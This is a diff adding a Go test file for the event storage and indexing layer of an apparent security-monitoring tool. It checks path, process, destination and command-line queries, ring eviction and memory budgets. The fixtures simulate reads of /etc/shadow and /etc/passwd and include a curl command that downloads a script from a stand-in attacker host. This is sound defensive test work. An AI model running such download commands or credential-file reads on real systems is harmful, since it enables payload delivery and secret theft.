@@ -0,0 +1,190 @@
+package storage
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"aegis/pkg/events"
+)
+
+func fileEvent(id uint64, pid uint32, filename string) *Event {
+	ev := events.FileOpenEvent{}
+	ev.Hdr.PID = pid
+	copy(ev.Hdr.Comm[:], "cat")
+	copy(ev.Filename[:], filename)
+	return EventFromBackend(id, events.EventTypeFileOpen, time.Now(), ev)
+}
+
+func TestIndexerPathsDestinationsAndTerms(t *testing.T) {
+	m := NewManager(100, 100)
+	m.Append(fileEvent(1, 10, "/etc/shadow"))
+	m.Append(fileEvent(2, 11, "/etc/passwd"))
+	m.Append(fileEvent(3, 12, "/var/log/syslog"))
+
+	exec := events.ExecEvent{}
+	exec.Hdr.PID = 13
+	copy(exec.Filename[:], "/usr/bin/curl")
+	copy(exec.CommandLine[:], "curl -o /tmp/x.sh http://evil.example/x.sh")
+	m.Append(EventFromBackend(4, events.EventTypeExec, time.Now(), exec))
+
+	conn := events.ConnectEvent{Family: 2, Port: 443, AddrV4: 0x04030201} // 1.2.3.4
+	conn.Hdr.PID = 13
+	copy(conn.Hdr.Comm[:], "curl")
+	m.Append(EventFromBackend(5, events.EventTypeConnect, time.Now(), conn))
+
+	if got := m.QueryByPath("/etc/shadow"); len(got) != 1 || got[0].ID != 1 {
+		t.Fatalf("QueryByPath = %v", got)
+	}
+	if got := m.QueryByPathPrefix("/etc/"); len(got) != 2 {
+		t.Fatalf("QueryByPathPrefix(/etc/) = %d events", len(got))
+	}
+	if got := m.QueryByPathPrefix("/etc/pa"); len(got) != 1 || got[0].ID != 2 {
+		t.Fatalf("QueryByPathPrefix(/etc/pa) = %v", got)
+	}
+	if got := m.QueryByDestination("1.2.3.4"); len(got) != 1 || got[0].ID != 5 {
+		t.Fatalf("QueryByDestination = %v", got)
+	}
+	if got := m.QueryByProcess("curl"); len(got) != 1 || got[0].ID != 5 {
+		t.Fatalf("connect events not indexed by comm: %v", got)
+	}
+	if got := m.QueryByCmdlineTerm("x.sh"); len(got) != 1 || got[0].ID != 4 {
+		t.Fatalf("QueryByCmdlineTerm(x.sh) = %v", got)
+	}
+
+	got := m.QueryByFilter(Filter{PIDs: []uint32{13}, DstPorts: []uint16{443}})
+	if len(got) != 1 || got[0].ID != 5 {
+		t.Fatalf("QueryByFilter(pid, port) = %v", got)
+	}
+	if got := m.QueryByFilter(Filter{PIDs: []uint32{13}, CmdlineTerms: []string{"curl", "nosuch"}}); len(got) != 0 {
+		t.Fatalf("QueryByFilter with an unmatched term = %v", got)
+	}
+
+	q, _ := ParseQuery(`filename ~= "^/etc/"`, time.Now())
+	res, _ := m.Execute(q, QueryContext{})
+	if !strings.HasPrefix(res.Plan, "index") || res.Total != 2 {
+		t.Fatalf("anchored filename pattern: plan %q total %d", res.Plan, res.Total)
+	}
+}
+
+func TestIndexerFollowsRingEviction(t *testing.T) {
+	m := NewManager(2, 100)
+	m.Append(fileEvent(1, 10, "/etc/shadow"))
+	m.Append(fileEvent(2, 10, "/etc/passwd"))
+	m.Append(fileEvent(3, 10, "/tmp/a"))
+
+	if got := m.QueryByPath("/etc/shadow"); len(got) != 0 {
+		t.Fatalf("overwritten event still indexed: %v", got)
+	}
+	if got := m.QueryByPID(10); len(got) != 2 {
+		t.Fatalf("QueryByPID = %d events, want 2", len(got))
+	}
+	if got := m.QueryByPathPrefix("/etc/"); len(got) != 1 || got[0].ID != 2 {
+		t.Fatalf("QueryByPathPrefix = %v", got)
+	}
+	if n := m.indexer.paths.find("/etc/shadow"); n != nil {
+		t.Fatal("empty trie node not pruned")
+	}
+}
+
+// checkCoherent verifies that the indexes, the ID map and the byte estimate
+// describe exactly the events the ring buffer holds.
+func checkCoherent(t *testing.T, m *Manager) {
+	t.Helper()
+	retained, _ := m.store.Latest(m.store.Capacity())
+	inRing := make(map[*Event]bool)
+	var bytes int64
+	entries := 0
+	for _, ev := range retained {
+		inRing[ev] = true
+		k := keysOf(ev)
+		bytes += eventBytes(ev, k)
+		entries += k.entries()
+	}
+
+	var indexed []*Event
+	for typ := range m.indexer.typeIndex {
+		indexed = append(indexed, m.QueryByType(typ)...)
+	}
+	indexed = append(indexed, m.QueryByPathPrefix("/")...)
+	for pid := range m.indexer.pidIndex {
+		indexed = append(indexed, m.QueryByPID(pid)...)
+	}
+	for _, ev := range indexed {
+		if !inRing[ev] {
+			t.Fatalf("index returned event %d, which the ring no longer holds", ev.ID)
+		}
+	}
+	for id, ev := range m.byID {
+		if !inRing[ev] {
+			t.Fatalf("ID map holds evicted event %d", id)
+		}
+	}
+
+	metrics := m.Metrics()
+	if metrics.Events != len(retained) || metrics.IndexedIDs != len(retained) {
+		t.Fatalf("metrics report %d events, %d IDs; ring holds %d", metrics.Events, metrics.IndexedIDs, len(retained))
+	}
+	if metrics.Bytes != bytes {
+		t.Fatalf("metrics report %d bytes, retained events take %d", metrics.Bytes, bytes)
+	}
+	if metrics.IndexEntries != entries {
+		t.Fatalf("indexes hold %d entries, retained events need %d", metrics.IndexEntries, entries)
+	}
+}
+
+func TestManagerIndexMatchesStore(t *testing.T) {
+	m := NewManager(50, 1000)
+	for i := 1; i <= 500; i++ {
+		pid := uint32(i % 7)
+		switch i % 3 {
+		case 0:
+			m.Append(fileEvent(uint64(i), pid, fmt.Sprintf("/var/lib/%d/data", i%11)))
+		case 1:
+			exec := events.ExecEvent{}
+			exec.Hdr.PID = pid
+			copy(exec.Hdr.Comm[:], "sh")
+			copy(exec.Filename[:], "/bin/sh")
+			copy(exec.CommandLine[:], fmt.Sprintf("sh -c job%d", i%5))
+			m.Append(EventFromBackend(uint64(i), events.EventTypeExec, time.Now(), exec))
+		default:
+			conn := events.ConnectEvent{Family: 2, Port: uint16(8000 + i%4), AddrV4: uint32(i % 9)}
+			conn.Hdr.PID = pid
+			m.Append(EventFromBackend(uint64(i), events.EventTypeConnect, time.Now(), conn))
+		}
+		if i%50 == 0 {
+			checkCoherent(t, m)
+		}
+	}
+	if m.Metrics().Evicted != 450 {
+		t.Fatalf("evicted = %d, want 450", m.Metrics().Evicted)
+	}
+}
+
+func TestManagerMemoryBudget(t *testing.T) {
+	m := NewManager(1000, 1000)
+	one := eventBytes(fileEvent(1, 10, "/tmp/a"), keysOf(fileEvent(1, 10, "/tmp/a")))
+	m.SetMemoryBudget(10 * one)
+
+	for i := 1; i <= 100; i++ {
+		m.Append(fileEvent(uint64(i), 10, "/tmp/a"))
+	}
+	metrics := m.Metrics()
+	if metrics.Events != 10 || metrics.Bytes > metrics.BudgetBytes {
+		t.Fatalf("budget not enforced: %+v", metrics)
+	}
+	if metrics.EvictedForBudget != 90 {
+		t.Fatalf("evictedForBudget = %d, want 90", metrics.EvictedForBudget)
+	}
+	if got := m.QueryByPID(10); len(got) != 10 || got[0].ID != 91 {
+		t.Fatalf("QueryByPID returned %d events", len(got))
+	}
+	checkCoherent(t, m)
+
+	m.SetMemoryBudget(5 * one)
+	if n := m.Size(); n != 5 {
+		t.Fatalf("lowering the budget kept %d events", n)
+	}
+	checkCoherent(t, m)
+}